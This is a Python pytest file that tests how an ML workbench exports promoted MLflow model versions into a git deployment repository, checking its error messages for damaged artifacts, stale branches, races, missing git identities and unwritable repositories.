def _good_promoted(tmp_path: Path, name: str) -> tuple[Settings, str]:
    """A project swept in ``tmp_path``, its 'good' variant promoted to ``name``'s staging: the settings and its run id."""
    cfg = settings(root=tmp_path, tracking_uri=f"sqlite:///{tmp_path / 'mlflow.db'}")
    result = wb.run(write_project(tmp_path), settings=cfg, models=fake_models(), progress=False)
    run_id = next(v.run_id for v in result.variants if v.variant.prompt.name == "good") or ""
    wb.promote(run_id, name=name, alias="staging", gates=EASY, settings=cfg)
    return cfg, run_id


def test_a_run_whose_per_question_table_was_cut_short_is_not_exported(tmp_path: Path, deploy_repo: Path) -> None:
    # a full disk or a sync tool cut eval_results.json: the export was committed with EVALUATION.md's intervals and
    # per-question answers silently gone, as for an old run that never had the table
    from urllib.parse import urlsplit

    cfg, run_id = _good_promoted(tmp_path, "assist-cut")
    table = Path(urlsplit(MlflowClient(cfg.tracking_uri).get_run(run_id).info.artifact_uri).path) / "eval_results.json"
    table.write_bytes(table.read_bytes()[: table.stat().st_size // 2])
    refused_export(deploy_repo, "assist-cut", cfg,
                   rf"^assist-cut v1: the per-question table of run {run_id} \(eval_results.json\) cannot be "
                   r"read \(JSONDecodeError: .*\) — the bundle's EVALUATION.md would lose its answers and "
                   r"intervals: run its experiment again .*promote the new run to 'staging' and export that$")


def test_a_version_whose_files_are_not_where_the_store_says_names_the_folder(tmp_path: Path, deploy_repo: Path) -> None:
    # the project folder moved (or its artifacts were deleted): a sqlite store names its artifacts by absolute path, and
    # the export said "tracking store ...: MlflowException: The following failures occurred while downloading one or
    # more artifacts from file:///...: — check that it is reachable and writable" (the store itself was fine)
    import shutil
    from urllib.parse import urlsplit

    cfg, run_id = _good_promoted(tmp_path, "assist-moved")
    shutil.rmtree(tmp_path / "artifacts" / "promo" / "models")
    refused_export(deploy_repo, "assist-moved", cfg,
                   r"^assist-moved v1: its logged model m-\w+ \(config.yaml and the prompt files\) keeps its "
                   rf"files in {re.escape(str(tmp_path / 'artifacts' / 'promo' / 'models'))}/m-\w+/artifacts, "
                   r"which is not there \(the project folder moved, or they were deleted\) — .*export that$")
    # the run's own artifacts gone, its per-question table with them: exported without its answers and intervals
    wb.promote(run_id, name="assist-moved-run", alias="staging", gates=EASY, settings=cfg)
    run_dir = Path(urlsplit(MlflowClient(cfg.tracking_uri).get_run(run_id).info.artifact_uri).path)
    shutil.rmtree(run_dir)
    refused_export(deploy_repo, "assist-moved-run", cfg,
                   rf"^assist-moved-run v1: run {run_id}'s artifacts folder {re.escape(str(run_dir))} is gone "
                   r"\(deleted or moved away\) — put it back, or run the experiment again")


def test_a_version_whose_logged_model_was_deleted_says_so(swept: Swept, deploy_repo: Path) -> None:
    from mlflow import MlflowClient

    done = wb.promote(swept.run_id("good"), name="assist-gone", alias="staging", gates=EASY, settings=swept.settings)
    c = MlflowClient(swept.settings.tracking_uri)
    model_id = c.get_model_version("assist-gone", done.version).tags["workbench.logged_model_id"]
    c.delete_logged_model(model_id)  # cleaned up in the MLflow UI; promoting again reuses the version
    refused_export(deploy_repo, "assist-gone", swept.settings,
                   rf"assist-gone v1: its logged model {model_id} \(config.yaml and the prompt files\) was "
                   "deleted from MLflow — delete version 1 of assist-gone in the registry and promote its run again")


def test_a_repository_given_by_a_subfolder_gets_the_old_bundle_replaced(promoted: Swept, deploy_repo: Path) -> None:
    """The bundle folder is relative to the repository root, but git rm ran relative to the folder given: the files of
    the previous bundle stayed in the new commit beside the new ones."""
    stale = deploy_repo / "assist-x" / "production" / "prompts" / "old.txt"
    stale.parent.mkdir(parents=True)
    stale.write_text("the previous bundle's prompt\n")
    (deploy_repo / "ops").mkdir()
    (deploy_repo / "ops" / "deploy.sh").write_text("echo deploy\n")
    git(deploy_repo, "add", ".")
    git(deploy_repo, "commit", "-q", "-m", "a bundle and an ops folder")
    result = wb.export("assist-x", "production", repo=deploy_repo / "ops", settings=promoted.settings)
    tree = set(git(deploy_repo, "ls-tree", "-r", "--name-only", result.branch).split())
    assert "assist-x/production/prompts/old.txt" not in tree
    assert {"assist-x/production/prompts/good.txt", "ops/deploy.sh", "README.md"} <= tree


def test_the_default_branch_of_a_name_with_dots_is_a_valid_branch(swept: Swept, deploy_repo: Path) -> None:
    """'assist..v3' and '.assist' are registered model names but made 'promote/assist..v3-staging-v1', which git refuses."""
    for name, branch in (("assist..v3", "promote/assist.v3-staging-v1"), (".assist", "promote/assist-staging-v1")):
        wb.promote(swept.run_id("good"), name=name, alias="staging", gates=EASY, settings=swept.settings)
        result = wb.export(name, "staging", repo=deploy_repo, settings=swept.settings)
        assert result.branch == branch and result.bundle_dir == f"{name}/staging"


def test_the_report_of_a_reused_run_names_the_run_that_computed_it(tmp_path: Path, deploy_repo: Path) -> None:
    cfg = settings(root=tmp_path, tracking_uri=f"sqlite:///{tmp_path / 'mlflow.db'}")
    spec = write_project(tmp_path)
    models = {**fake_models(), GEMMA_ID: ScriptedModel(scripted_answer, model_id=GEMMA_ID, identity="m")}
    first, again = (wb.run(spec, settings=cfg, models=models, progress=False) for _ in range(2))
    computed, reused = (next(v for v in r.variants if v.variant.prompt.name == "good") for r in (first, again))  # type: ignore[union-attr]
    assert reused.reused_from == computed.run_id and reused.run_id != computed.run_id
    wb.promote(reused.run_id or "", name="assist-reused", alias="staging", gates=EASY, settings=cfg)
    result = wb.export("assist-reused", "staging", repo=deploy_repo, settings=cfg)
    report = git(deploy_repo, "show", f"{result.branch}:{result.bundle_dir}/EVALUATION.md")
    # it named only the copy, whose answers, traces and latencies are the other run's
    assert f"promoted from MLflow run `{reused.run_id}`" in report
    assert f"Its sweep reused the results of run `{computed.run_id}`, which computed them" in report


def test_a_version_evaluated_on_chunks_an_older_workbench_cut_differently_is_not_exported(tmp_path: Path, deploy_repo: Path) -> None:
    # the team's production version, promoted before an upgrade changed the chunkers: its bundle rebuilt this
    # workbench's chunks, answering otherwise than its EVALUATION.md says
    from tests.promotion.conftest import sweep
    from workbench import grid

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(grid, "CHUNKING_REVISION", grid.CHUNKING_REVISION - 1)  # the older workbench sweeps and promotes
        old = sweep(tmp_path / "old")
        wb.promote(old.run_id("good"), name="assist-old", alias="staging", settings=old.settings, override_reason="tiny")
    refused_export(deploy_repo, "assist-old", old.settings,
                   r"assist-old v1: run .* retrieved from chunks an older workbench cut differently .* "
                   r"promote the new run to 'staging' and export that")


def test_a_version_registered_without_its_chunks_is_exported_with_the_chunks_its_run_logged(swept: Swept, deploy_repo: Path) -> None:
    # promoted by a teammate's older workbench, which recorded no chunks in the registered config.yaml: its bundle would be
    # refused by the next chunking revision although its run logged the chunks it retrieved from
    from workbench.promotion import _candidate

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(_candidate, "evaluated_chunks", lambda tags: None)  # the older workbench's promotion
        wb.promote(swept.run_id("good"), name="assist-chunks", alias="staging", gates=EASY, settings=swept.settings)
    result = wb.export("assist-chunks", "staging", repo=deploy_repo, settings=swept.settings)
    text = git(deploy_repo, "show", f"{result.branch}:{result.bundle_dir}/config.yaml")
    tags = MlflowClient(swept.settings.tracking_uri).get_run(swept.run_id("good")).data.tags
    chunks = BundleConfig.from_yaml(text).chunks
    assert chunks is not None and (chunks.count, chunks.sha256) == (int(tags["workbench.chunks"]), tags["workbench.chunks_sha256"])
    manifest = json.loads(git(deploy_repo, "show", f"{result.branch}:{result.bundle_dir}/manifest.json"))
    assert manifest["files"]["config.yaml"] == hashlib.sha256(text.encode()).hexdigest()


def test_exporting_a_version_again_says_its_branch_holds_the_earlier_export_and_names_the_option(
    promoted: Swept, deploy_repo: Path,
) -> None:
    # after a rollback, exporting production again met the branch of the version's earlier export, and the error said
    # only "pass another branch name", naming no option
    done = wb.export("assist-x", "production", repo=deploy_repo, settings=promoted.settings)
    with pytest.raises(ExportError) as info:
        wb.export("assist-x", "production", repo=deploy_repo, settings=promoted.settings)
    message = str(info.value)
    assert f"an earlier export of v{done.version}" in message and "--branch" in message


def test_exporting_a_version_evaluated_again_after_an_upgrade_names_what_its_earlier_branch_holds(tmp_path: Path, deploy_repo: Path) -> None:
    # a bundle of an older workbench, which this one refuses to load (other chunks): the experiment was run again,
    # promoted (the same configuration, the same version) and exported, and the error said the branch of the earlier
    # export was to be deployed again 'after a rollback' — a bundle this workbench refuses
    from tests.promotion.conftest import sweep
    from workbench import grid

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(grid, "CHUNKING_REVISION", grid.CHUNKING_REVISION - 1)  # the older workbench sweeps, promotes, exports
        old = sweep(tmp_path / "p")
        wb.promote(old.run_id("good"), name="assist-up", alias="staging", settings=old.settings, override_reason="tiny")
        first = wb.export("assist-up", "staging", repo=deploy_repo, settings=old.settings)
    again = wb.run(write_project(old.root), settings=old.settings, models=fake_models(), progress=False)
    run_id = next(v.run_id for v in again.variants if v.variant.prompt.name == "good")  # type: ignore[union-attr]
    assert wb.promote(run_id, name="assist-up", alias="staging", settings=old.settings, override_reason="tiny").version == "1"  # type: ignore[arg-type]
    with pytest.raises(ExportError) as info:
        wb.export("assist-up", "staging", repo=deploy_repo, settings=old.settings)
    message = str(info.value)
    assert f"branch '{first.branch}' already exists" in message and "deploy that branch again" not in message
    assert (f"(an earlier export of v1 to staging, of an earlier evaluation: run {old.run_id('good')}, evaluated on chunks cut by "
            f"chunking revision {grid.CHUNKING_REVISION - 1}, which this workbench (revision {grid.CHUNKING_REVISION}) does not load)"
            " — delete it, or pass another branch name") in message
    git(deploy_repo, "branch", "-D", first.branch)
    wb.export("assist-up", "staging", repo=deploy_repo, settings=old.settings)  # the branch now holds this evaluation
    with pytest.raises(ExportError, match=r"\(an earlier export of v1 to staging: after a rollback, deploy that branch again\)"):
        wb.export("assist-up", "staging", repo=deploy_repo, settings=old.settings)


def test_an_export_racing_another_to_the_same_branch_says_so(promoted: Swept, deploy_repo: Path) -> None:
    """Two exports of one version at the same time: the one that lost the race ended with git's own words, 'git
    update-ref failed ... cannot lock ref ...: reference already exists'."""

    class Raced(GitRepo):
        def create_branch(self, branch: str, commit: str) -> None:
            super().create_branch(branch, self.head() or commit)  # the other export's branch, made meanwhile
            super().create_branch(branch, commit)

    with pytest.raises(ExportError, match=r"^branch 'promote/assist-x-production-v\d+' was created in .* while this export ran "
                                          r"\(another export at the same time\) — this one exported nothing") as caught:
        wb.export("assist-x", "production", repo=Raced(deploy_repo), settings=promoted.settings)
    assert "\n" not in str(caught.value) and "update-ref" not in str(caught.value)


@pytest.mark.parametrize(("user", "email"), [
    ("Jane Doe", "Jane.Doe@workbench.invalid"),
    ("ci", "ci@workbench.invalid"),
    ("Zoë <zoe@corp>", "Zoë.zoe.corp@workbench.invalid"),
    ("  ", "workbench@workbench.invalid"),
])
def test_without_a_git_identity_the_export_commits_as_the_user_with_an_address_git_tools_accept(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, user: str, email: str
) -> None:
    # a CI checkout or a fresh container with no user.email: 'Jane Doe' committed as 'Jane Doe@workbench.invalid', an
    # address with a space in it, which mailmap, hosting services and `git log --author` matching read as two words
    from workbench.promotion._git import GitRepo

    monkeypatch.setenv("HOME", str(tmp_path / "home"))  # no ~/.gitconfig
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    for name in ("GIT_AUTHOR_NAME", "GIT_AUTHOR_EMAIL", "GIT_COMMITTER_NAME", "GIT_COMMITTER_EMAIL", "GIT_CONFIG_GLOBAL"):
        monkeypatch.delenv(name, raising=False)
    repo = tmp_path / "deploy"
    repo.mkdir()
    git(repo, "init", "-q")
    env = GitRepo(repo).identity_env(user)
    assert env["GIT_AUTHOR_NAME"] == (user.strip() or "workbench")
    assert env["GIT_AUTHOR_EMAIL"] == env["GIT_COMMITTER_EMAIL"] == email


@pytest.mark.parametrize("damaged", ['{"action": "promote", "name": "assist-audit"', '{"user": "alice"}', "[]"],
                         ids=["cut-short", "fields-missing", "not-a-record"])
def test_a_damaged_audit_tag_is_one_line_naming_the_tag_and_the_fix(tmp_path: Path, deploy_repo: Path, damaged: str) -> None:
    # the audit record of a promotion is a tag anyone with write access to the registry can edit (the MLflow UI, a
    # script): a cut or edited one made the export fail with pydantic's many-line ValidationError
    cfg, _ = _good_promoted(tmp_path, "assist-audit")
    MlflowClient(cfg.tracking_uri).set_model_version_tag("assist-audit", "1", "workbench.audit.staging", damaged)
    refused_export(deploy_repo, "assist-audit", cfg,
                   r"^assist-audit v1: its audit record \(the tag workbench\.audit\.staging\) cannot be read \(.+\) — promote "
                   r"its run to 'staging' again, which records it anew, then export$")


def test_a_version_an_earlier_workbench_registered_is_exported_as_this_workbench_writes_bundles(tmp_path: Path, deploy_repo: Path) -> None:
    # its config.yaml (schema 1) was exported as it was: no record of the workbench that wrote the bundle nor of the
    # embedding model that evaluated it (nor of the llama-cpp-python running its model), and an older layout every
    # later reader had to know
    import yaml

    from tests.promotion.conftest import CASES
    from workbench.promotion._config import installed_workbench

    cfg, run_id = _good_promoted(tmp_path, "assist-schema1")
    model_id = MlflowClient(cfg.tracking_uri).get_model_version("assist-schema1", "1").tags["workbench.logged_model_id"]
    registered = tmp_path / "artifacts" / "promo" / "models" / model_id / "artifacts" / "config.yaml"
    now = BundleConfig.from_yaml(registered.read_text())
    assert (now.schema_version, now.workbench, now.embedder is not None, now.generator is not None) == (5, installed_workbench(), True, True)
    old = {k: v for k, v in yaml.safe_load(registered.read_text()).items() if k not in ("workbench", "embedder", "generator")}
    registered.write_text(yaml.safe_dump({**old, "schema_version": 1, "config_hash": now.earlier_hashes()[0]}, sort_keys=False))
    result = wb.export("assist-schema1", "staging", repo=deploy_repo, settings=cfg, checkout=True)
    exported = BundleConfig.from_yaml((result.path / "config.yaml").read_text())
    assert exported == now and json.loads((result.path / "manifest.json").read_text())["config_hash"] == now.config_hash
    bundle = wb.load_bundle(result.path, corpus_path=tmp_path / "corpus", index_dir=tmp_path / "index", models=fake_models())
    assert bundle.answer(CASES[0]["question"]).answer == CASES[0]["reference"]


def test_an_export_of_a_version_whose_run_is_in_mlflows_trash_says_so(swept: Swept, deploy_repo: Path) -> None:
    """A version whose run was deleted in the MLflow UI exported without a word, until mlflow gc made the next export
    of that alias impossible; the bundle is whole (the run's files are kept until then), and the export names the run
    to restore."""
    good = swept.run_id("good")
    wb.promote(good, name="assist-trash-x", alias="staging", gates=EASY, settings=swept.settings)
    c = MlflowClient(swept.settings.tracking_uri)
    c.delete_run(good)
    try:
        result = wb.export("assist-trash-x", "staging", repo=deploy_repo, settings=swept.settings)
    finally:
        c.restore_run(good)
    assert "assist-trash-x/staging/EVALUATION.md" in git(deploy_repo, "ls-tree", "-r", "--name-only", result.branch)
    assert str(result).splitlines()[1:] == [
        f"note: v1 was promoted from run {good}, which is deleted in MLflow — restore it with 'mlflow runs restore --run-id "
        f"{good}' before mlflow gc removes it: gates against models:/assist-trash-x@staging refuse it, and exports cannot "
        "bundle it once it is gone"]
    again = wb.export("assist-trash-x", "staging", repo=deploy_repo, branch="again", settings=swept.settings)
    assert again.note is None and "note:" not in str(again)


@pytest.mark.parametrize("said", [
    "error: insufficient permission for adding an object to repository database .git/objects\nfatal: Unable to add (null) to database\n",
    "error: unable to create temporary file: Operation not permitted\nfatal: Unable to add (null) to database\n",
], ids=["another-users-repository", "immutable-or-read-only"])
def test_a_repository_this_user_cannot_write_to_is_named_with_what_to_do(said: str) -> None:
    # an export into a deployment clone owned by another user (or on a read-only mount) ended on git's own words,
    # "... Unable to add (null) to database", saying neither that the folder is not writable nor what to do
    from workbench.promotion._git import git_failure

    message = git_failure("hash-object", Path("/srv/deploy"), said, 128)
    assert "(null)" not in message and "\n" not in message
    assert message.startswith(f"git hash-object failed in /srv/deploy: {said.splitlines()[0].removeprefix('error: ')} — ")
    assert message.endswith("— this user cannot write to the repository (a read-only folder or mount, or another user's "
                            "clone): export as a user who may write to it, or into a clone of your own and push the branch from there")


def test_other_git_failures_keep_gits_words_alone() -> None:
    from workbench.promotion._git import git_failure

    assert git_failure("read-tree", Path("/srv/deploy"), "fatal: not a tree object\n", 128) == \
        "git read-tree failed in /srv/deploy: not a tree object"
    assert git_failure("write-tree", Path("/srv/deploy"), "", 1) == "git write-tree failed in /srv/deploy: exit 1"


def test_a_bundle_folder_holding_another_registered_models_bundle_is_refused(promoted: Swept, deploy_repo: Path) -> None:
    # an export command copied from another model's job, its --bundle-dir left as it was: eggs-bot@staging replaced
    # kitchen-bot@production's bundle in kitchen-bot/production/, on a branch and commit named after eggs-bot alone
    wb.promote(promoted.run_id("bad"), name="assist-other", alias="staging", gates=EASY, settings=promoted.settings)
    wb.export("assist-x", "production", repo=deploy_repo, settings=promoted.settings, checkout=True)
    before, refs = state(deploy_repo), git(deploy_repo, "for-each-ref")
    with pytest.raises(ExportError, match=r"^bundle_dir 'assist-x/production' in .* holds the bundle of assist-x@production \(v1\) "
                                          r"— an export of assist-other@staging would replace it: choose another folder "
                                          r"\(--bundle-dir\), or remove that bundle in a commit first$"):
        wb.export("assist-other", "staging", repo=deploy_repo, settings=promoted.settings, bundle_dir="assist-x/production")
    assert state(deploy_repo) == before and git(deploy_repo, "for-each-ref") == refs
    # the same model's bundle of another alias in a folder of the team's choosing is replaced, as before
    result = wb.export("assist-x", "staging", repo=deploy_repo, settings=promoted.settings, bundle_dir="assist-x/production")
    assert "assist-x/production/manifest.json" in git(deploy_repo, "ls-tree", "-r", "--name-only", result.branch)
